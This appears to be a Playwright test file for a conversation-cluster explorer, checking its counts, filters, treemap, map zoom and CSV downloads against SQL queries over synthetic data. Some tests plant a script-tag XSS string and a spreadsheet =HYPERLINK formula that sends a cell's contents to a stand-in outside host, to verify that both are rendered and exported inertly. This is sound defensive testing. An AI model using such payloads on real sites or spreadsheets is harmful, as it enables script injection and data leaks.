"""The explorer as a person uses it, on made-up tables with every facet filled."""

from __future__ import annotations

import csv
import json
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import duckdb
import pytest
from playwright.sync_api import Browser, Page, expect

from tests.support import synthetic
from tests.support.browser import HOSTILE, Watched, calm, go, settled

HOSTILE_ID = "hostile"
FORMULA_ID, FORMULA = "calculating", '=HYPERLINK("https://outside.example/?"&A1,"more")'


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    copy = tmp_path_factory.mktemp("explorer") / "published.duckdb"
    synthetic.make(copy, 3_000)
    with duckdb.connect(str(copy)) as connection:
        connection.execute("use kura")
        connection.execute(
            "update fct_kura__conversations set summary = ?, request = ?, user_id = ?, topic = ? where conversation_id ="
            " (select max(conversation_id) from fct_kura__conversations where cluster_id = 't8m7')",
            [HOSTILE, HOSTILE, HOSTILE_ID, HOSTILE],
        )
        connection.execute(
            "update fct_kura__conversations set summary = ?, request = ?, topic = ?, user_id = ? where conversation_id ="
            " (select min(conversation_id) from fct_kura__conversations where cluster_id = 't8m7')",
            [FORMULA, FORMULA, FORMULA, FORMULA_ID],
        )
        leaf = "'t8m7'"
        connection.execute(
            f"update dim_kura__clusters set name = ?, description = ?, path = ? where cluster_id = {leaf}",
            [HOSTILE] * 3,
        )
        connection.execute(f"update fct_kura__cluster_examples set summary = ? where cluster_id = {leaf}", [HOSTILE])
        connection.execute(
            f"update fct_kura__cluster_facets set value = value || ? where cluster_id = {leaf} and facet = 'segment'",
            [HOSTILE],
        )
    return copy


@pytest.fixture(scope="module")
def ask(published: Path) -> Callable[..., Any]:
    def asked(sql: str) -> Any:
        with duckdb.connect(str(published), read_only=True) as connection:
            connection.execute("use kura")
            return connection.sql(sql).fetchall()[0][0]

    return asked


@pytest.fixture
def page(browser: Browser, show: Callable[[Path], str], published: Path) -> Iterator[Page]:
    tab = browser.new_page(viewport={"width": 1280, "height": 900})
    tab.set_default_timeout(10_000)
    watched = Watched(tab)
    tab.goto(show(published))
    settled(tab, "What people talk about")
    yield tab
    assert watched.problems == []
    assert tab.title() != "owned"
    tab.close()


def choose(page: Page, label: str, value: str) -> None:
    box = page.get_by_role("combobox", name=re.compile(label)).first
    box.click()
    box.fill(value)
    page.get_by_role("option", name=value, exact=True).first.click()
    page.keyboard.press("Escape")
    calm(page)


def counts(page: Page, number: int) -> None:
    """Wait until the page says that so many conversations are chosen."""
    said = page.get_by_text(re.compile(r"^[\d,]+( of [\d,]+)? conversations?")).first
    expect(said).to_have_text(re.compile(rf"^{number:,}( of| conversations?)"), timeout=10_000)
    calm(page)


def test_the_overview_says_what_sql_says(page: Page, ask: Callable[..., Any]) -> None:
    cards = page.locator(".kura-card")
    expect(cards.filter(has_text="Conversations").locator("b")).to_have_text(
        f"{ask('select count(*) from fct_kura__conversations'):,}"
    )
    expect(cards.filter(has_text="Users").locator("b")).to_have_text(
        f"{ask('select count(distinct user_id) from fct_kura__conversations'):,}"
    )
    frustrated = ask("select avg(is_frustrated::int) from fct_kura__conversations")
    expect(cards.filter(has_text="Frustrated").locator("b")).to_have_text(f"{100 * frustrated:.1f} %")
    expect(page.get_by_test_id("stVegaLiteChart")).to_be_visible()
    for trend in ("new", "growing", "fading"):
        moving = ask(
            "select count(*) from fct_kura__cluster_trends inner join dim_kura__clusters using (cluster_id)"
            f" where is_leaf and trend = '{trend}' and period_start = ("
            "select max(period_start) from fct_kura__cluster_trends where is_complete)"
        )
        assert moving > 0
        expect(page.locator(".tree.short .flag", has_text=trend)).to_have_count(min(moving, 4))


def test_filters_change_numbers_to_what_sql_says(page: Page, ask: Callable[..., Any]) -> None:
    go(page, "Conversations")
    counts(page, ask("select count(*) from fct_kura__conversations"))
    choose(page, "Frustration", "5")
    counts(page, ask("select count(*) from fct_kura__conversations where user_frustration = 5"))
    choose(page, "Segment", "team")
    both = (
        "select count(*) from fct_kura__conversations inner join fct_kura__conversation_attributes using (conversation_id)"
        " where user_frustration = 5 and segment = 'team'"
    )
    counts(page, ask(both))
    page.get_by_role("textbox", name="Search").fill("app_%")
    page.keyboard.press("Enter")
    calm(page)
    expect(page.get_by_text("No conversation is left")).to_be_visible()
    # the filters stay from page to page
    go(page, "Topics")
    counts(page, ask(both))
    page.get_by_role("button", name="Clear filters").click()
    calm(page)
    counts(page, ask("select count(*) from fct_kura__conversations"))


def test_a_treemap_is_drilled_into_and_climbed_out_of_with_the_keyboard(page: Page, ask: Callable[..., Any]) -> None:
    go(page, "Topics")
    tiles = page.locator(".treemap button")
    top = ask("select cluster_id from dim_kura__clusters where level = 0 and not is_leaf order by sort_order limit 1")
    name = ask(f"select name from dim_kura__clusters where cluster_id = '{top}'")
    expect(tiles).to_have_count(
        ask("select count(*) from dim_kura__clusters where level = 0 and conversation_count > 0")
    )
    tiles.filter(has_text=name).first.focus()
    page.keyboard.press("Enter")
    expect(tiles).to_have_count(
        ask(f"select count(*) from dim_kura__clusters where parent_cluster_id = '{top}' and conversation_count > 0")
    )
    page.get_by_role("button", name="All topics").focus()
    page.keyboard.press("Enter")
    expect(tiles.filter(has_text=name).first).to_be_visible()


def test_the_tree_opens_with_the_keyboard_and_leads_to_the_cluster(page: Page, ask: Callable[..., Any]) -> None:
    go(page, "Topics")
    rows = page.locator(".tree .row:not(.head):visible")
    before = rows.count()
    top = page.locator(".tree .row.top .name").first
    top.focus()
    page.keyboard.press("ArrowRight")
    children = ask(
        "select count(*) from dim_kura__clusters where parent_cluster_id = (select cluster_id from dim_kura__clusters where sort_order = 1)"
    )
    expect(rows).to_have_count(before + children)
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    name = ask("select name from dim_kura__clusters where sort_order = 2")
    settled(page, name)
    count = ask("select conversation_count from dim_kura__clusters where sort_order = 2")
    expect(page.locator(".kura-card").filter(has_text="Conversations").locator("b")).to_have_text(f"{count:,}")
    assert f"id={ask('select cluster_id from dim_kura__clusters where sort_order = 2')}" in page.url


def test_the_map_zooms_by_wheel_and_keys_and_its_labels_never_collide(page: Page, ask: Callable[..., Any]) -> None:
    go(page, "Map")
    frame = page.locator(".map .frame")
    expect(frame).to_have_attribute("data-points", str(ask("select count(x) from fct_kura__conversations")))
    few = int(frame.get_attribute("data-labels") or 0)
    canvas = page.locator(".map canvas")
    canvas.focus()
    for _ in range(4):
        page.keyboard.press("+")
    expect(frame).to_have_attribute("data-scale", re.compile(r"^3\.8"))
    page.keyboard.press("0")
    expect(frame).to_have_attribute("data-scale", "1.000")
    expect(frame).to_have_attribute("data-labels", str(few))
    canvas.hover()
    page.mouse.wheel(0, -300)
    expect(frame).not_to_have_attribute("data-scale", "1.000")
    assert few >= 3
    for scale in range(3):
        boxes = json.loads(frame.get_attribute("data-boxes") or "")
        for i, a in enumerate(boxes):
            for b in boxes[:i]:
                assert a[0] >= b[2] or a[2] <= b[0] or a[1] >= b[3] or a[3] <= b[1], (scale, a, b)
        page.get_by_role("button", name="Zoom in").click()


def test_the_map_is_coloured_by_what_is_asked_for(page: Page) -> None:
    go(page, "Map")
    legend = page.locator(".map .legend button")
    for colour, entries in (
        ("Growth", ["✦ New", "▲ Growing", "▼ Fading", "Steady"]),
        ("Frustration", ["1 · not at all", "2", "3", "4", "5 · very"]),
        ("Concern", ["1 · not at all", "2", "3", "4", "5 · very"]),
        ("Language", ["english", "german", "french", "spanish"]),
        ("Segment", ["free", "team", "enterprise"]),
    ):
        choose(page, "Colour by", colour)
        for entry in entries:
            expect(legend.filter(has_text=entry)).to_have_count(1)


def test_what_strangers_wrote_is_shown_letter_by_letter(page: Page, ask: Callable[..., Any]) -> None:
    shown = "<script>document.title='owned'</script>"
    leaf = ask("select cluster_id from fct_kura__conversations where user_id = 'hostile'")
    page.goto(page.url.rstrip("/") + "/?x=1")  # a fresh session
    settled(page, "What people talk about")
    go(page, "Topics")
    for toggle in page.locator(".tree .toggle:visible").all():
        toggle.click()
    page.locator(".tree .name", has_text=shown).first.click()
    settled(page, "<script>")
    expect(page.locator(".kura-lead").first).to_contain_text(shown)
    expect(page.locator(".kura-quotes p").first).to_contain_text(shown)
    expect(page.locator("h1")).to_contain_text("**bold** :red[red] $x^2$")
    assert leaf in page.url
    go(page, "Conversations")
    page.get_by_role("textbox", name="Search").fill("owned")
    page.keyboard.press("Enter")
    calm(page)
    counts(page, 1)
    page.get_by_test_id("stDataFrame").first.click(position={"x": 18, "y": 52})
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text(shown)
    body = page.locator("body").inner_html()
    assert "\u202e" not in body
    assert "\x1b" not in body
    assert page.locator("img[src*='outside.example'], a[href^='javascript:']").count() == 0


def test_a_download_holds_what_was_filtered_and_no_formula(page: Page, ask: Callable[..., Any]) -> None:
    go(page, "Conversations")
    choose(page, "Frustration", "5")
    counts(page, ask("select count(*) from fct_kura__conversations where user_frustration = 5"))
    page.get_by_text("Prepare download").click()
    expect(page.get_by_test_id("stDownloadButton").get_by_role("button")).to_be_visible()
    calm(page)
    with page.expect_download() as download:
        page.get_by_test_id("stDownloadButton").get_by_role("button").click()
    with duckdb.connect() as connection:
        rows = connection.sql(
            f"select count(*), count(distinct conversation_id) from read_csv('{download.value.path()}')"
        ).fetchall()
    assert rows == [(ask("select count(*) from fct_kura__conversations where user_frustration = 5"),) * 2]


def test_the_toolbar_of_a_table_saves_no_formula(page: Page) -> None:
    page.add_init_script("delete window.showSaveFilePicker")  # else it asks where to save, which no test can answer
    page.reload()
    settled(page, "What people talk about")
    go(page, "Conversations")
    page.get_by_role("textbox", name="Search").fill("HYPERLINK")
    page.keyboard.press("Enter")
    calm(page)
    counts(page, 1)
    page.get_by_test_id("stDataFrame").first.hover()
    with page.expect_download() as download:
        page.get_by_test_id("stElementToolbar").get_by_label("Download as CSV").first.click()
    saved = Path(download.value.path()).read_text("utf-8-sig")
    cells = [cell for row in csv.reader(saved.splitlines()) for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_a_narrow_window_needs_no_sideways_scrolling(
    browser: Browser, show: Callable[[Path], str], published: Path
) -> None:
    tab = browser.new_page(viewport={"width": 400, "height": 800})
    tab.set_default_timeout(10_000)
    watched = Watched(tab)
    tab.goto(show(published))
    settled(tab, "What people talk about")
    for name, title in (("Map", "Map"), ("Topics", "Topics"), ("Cluster", ""), ("Conversations", "Conversations")):
        assert tab.evaluate("document.querySelector('[data-testid=stMain]').scrollWidth") <= 400, name
        if tab.get_by_test_id("stExpandSidebarButton").is_visible():
            tab.get_by_test_id("stExpandSidebarButton").click()
        tab.get_by_test_id("stSidebarNav").get_by_text(name, exact=True).click()
        settled(tab, title)
    assert watched.problems == []
    tab.close()


def test_without_a_copy_the_explorer_says_what_to_do_and_without_a_model_what_is_missing(
    browser: Browser, show: Callable[[Path], str], published: Path, tmp_path: Path
) -> None:
    local = tmp_path / "local.duckdb"
    tab = browser.new_page()
    tab.goto(show(local))
    settled(tab, "Nothing to show yet")
    expect(tab.get_by_text("make explore")).to_be_visible()

    staged = local.with_suffix(".staged")
    shutil.copy(published, staged)
    with duckdb.connect(str(staged)) as connection:
        connection.execute("use kura")
        connection.execute(
            "update fct_kura__conversations set user_frustration = null, concerning_score = null,"
            " is_frustrated = null, is_concerning = null"
        )
        connection.execute(
            "delete from fct_kura__cluster_facets where facet in ('user_frustration', 'concerning_score')"
        )
    staged.rename(local)
    tab.reload()
    settled(tab, "What people talk about")
    expect(tab.get_by_text("Frustration and concern need a language model")).to_be_visible()
    expect(tab.locator(".kura-card").filter(has_text="Frustrated")).to_have_count(0)
    go(tab, "Map")
    choose(tab, "Colour by", "Frustration")
    expect(tab.get_by_text("Frustration needs a language model")).to_be_visible()
    expect(tab.locator(".map canvas")).to_have_count(0)
    tab.close()


def test_a_hundred_thousand_conversations_are_drawn_zoomed_and_filtered(
    browser: Browser, show: Callable[[Path], str], tmp_path: Path
) -> None:
    large = tmp_path / "large.duckdb"
    synthetic.make(large, 100_000)
    tab = browser.new_page(viewport={"width": 1280, "height": 900})
    tab.goto(show(large))
    settled(tab, "What people talk about")
    go(tab, "Map")
    frame = tab.locator(".map .frame")
    expect(frame).to_have_attribute("data-points", re.compile(r"^99\d{3}$"))
    tab.locator(".map canvas").focus()
    for _ in range(5):
        tab.keyboard.press("+")
    expect(frame).to_have_attribute("data-scale", re.compile(r"^5\.3"))
    go(tab, "Conversations")
    choose(tab, "Segment", "team")
    tab.close()
